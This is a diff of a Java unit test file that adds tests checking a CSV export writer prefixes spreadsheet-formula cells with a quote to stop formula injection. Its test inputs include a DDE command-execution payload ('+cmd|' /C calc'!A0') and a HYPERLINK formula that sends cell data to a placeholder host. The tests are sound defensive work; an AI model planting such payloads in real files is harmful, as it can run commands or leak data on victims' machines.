@@ -69,7 +69,7 @@ class WritersTest {
   void csvQuotesPerRfc4180WithCrlfAndOneRowPerRecord() throws IOException {
     Path out = dir.resolve("x.csv");
     try (OutputFile f = OutputFile.open(out, 0);
-        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, Fakes.COLUMNS, true)) {
+        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, Fakes.COLUMNS, true, true)) {
       w.write(withTwo, List.of(r1, r2));
       w.write(new Fakes.Interview("i2", 6L, "plain", List.of()), List.of());
       w.commit();
@@ -86,6 +86,56 @@ class WritersTest {
     assertEquals(4, rows.size());
   }
 
+  private String csvOf(Fakes.Interview interview, Fakes.Record record, boolean escapeFormulas) throws IOException {
+    Path out = dir.resolve("formulas-" + escapeFormulas + ".csv");
+    try (OutputFile f = OutputFile.open(out, 0);
+        CsvExportWriter<Fakes.Interview, Fakes.Record> w =
+            new CsvExportWriter<>(f, Fakes.COLUMNS, false, escapeFormulas)) {
+      w.write(interview, List.of(record));
+      w.commit();
+    }
+    return Files.readString(out, StandardCharsets.UTF_8);
+  }
+
+  @Test
+  void csvCellsThatASpreadsheetWouldRunAsFormulasGetALeadingQuote() throws IOException {
+    Fakes.Interview i = new Fakes.Interview("=1+1", 5L, "@SUM(A1:A9)", List.of("r"));
+    // input, the cell as written, the cell as a CSV reader reads it
+    String[][] cases = {
+      {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+          "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"",
+          "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
+      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+      {"-2+3", "'-2+3", "'-2+3"},
+      {"\t=1", "'\t=1", "'\t=1"},
+      {"\r=1", "\"'\r=1\"", "'\r=1"},
+      {"a=1, not a formula", "\"a=1, not a formula\"", "a=1, not a formula"},
+      {" =1", " =1", " =1"},
+    };
+    for (String[] c : cases) {
+      String csv = csvOf(i, new Fakes.Record("+r", null, c[0]), true);
+      assertEquals("'=1+1,'@SUM(A1:A9),'+r," + c[1] + "\r\n", csv, c[0]);
+      assertEquals(List.of("'=1+1", "'@SUM(A1:A9)", "'+r", c[2]), parseCsv(dir.resolve("formulas-true.csv")).get(0));
+    }
+  }
+
+  @Test
+  void csvFormulaEscapingCanBeTurnedOff() throws IOException {
+    Fakes.Interview i = new Fakes.Interview("=1+1", 5L, "@SUM(A1:A9)", List.of("r"));
+    assertEquals("=1+1,@SUM(A1:A9),-r,+1\r\n", csvOf(i, new Fakes.Record("-r", null, "+1"), false));
+  }
+
+  @Test
+  void escapeFormulaLeavesOtherCellsAlone() {
+    assertEquals("", CsvExportWriter.escapeFormula(""));
+    assertEquals("'=", CsvExportWriter.escapeFormula("="));
+    assertEquals("'@", CsvExportWriter.escapeFormula("@"));
+    assertEquals("2026-01-01T00:00:00Z", CsvExportWriter.escapeFormula("2026-01-01T00:00:00Z"));
+    assertEquals("{\"id\":\"-1\"}", CsvExportWriter.escapeFormula("{\"id\":\"-1\"}"));
+    assertEquals("'-1", CsvExportWriter.escapeFormula("-1"));
+    assertEquals("中文 =1", CsvExportWriter.escapeFormula("中文 =1"));
+  }
+
   @Test
   void csvKeepsEmptyCellsInTheMiddle() throws IOException {
     Path out = dir.resolve("gaps.csv");
@@ -96,7 +146,7 @@ class WritersTest {
             new CsvColumn<>("c", (i, r) -> ""),
             new CsvColumn<>("d", (i, r) -> "4"));
     try (OutputFile f = OutputFile.open(out, 0);
-        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, columns, false)) {
+        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, columns, false, true)) {
       w.write(withTwo, List.of(r1));
       w.commit();
     }
@@ -108,7 +158,7 @@ class WritersTest {
     Path out = dir.resolve("x.csv");
     Files.writeString(out, "interview_id,note,record_id,content\r\n");
     try (OutputFile f = OutputFile.open(out, Files.size(out));
-        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, Fakes.COLUMNS, false)) {
+        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, Fakes.COLUMNS, false, true)) {
       w.write(new Fakes.Interview("i2", 6L, "plain", List.of()), List.of());
       w.commit();
     }
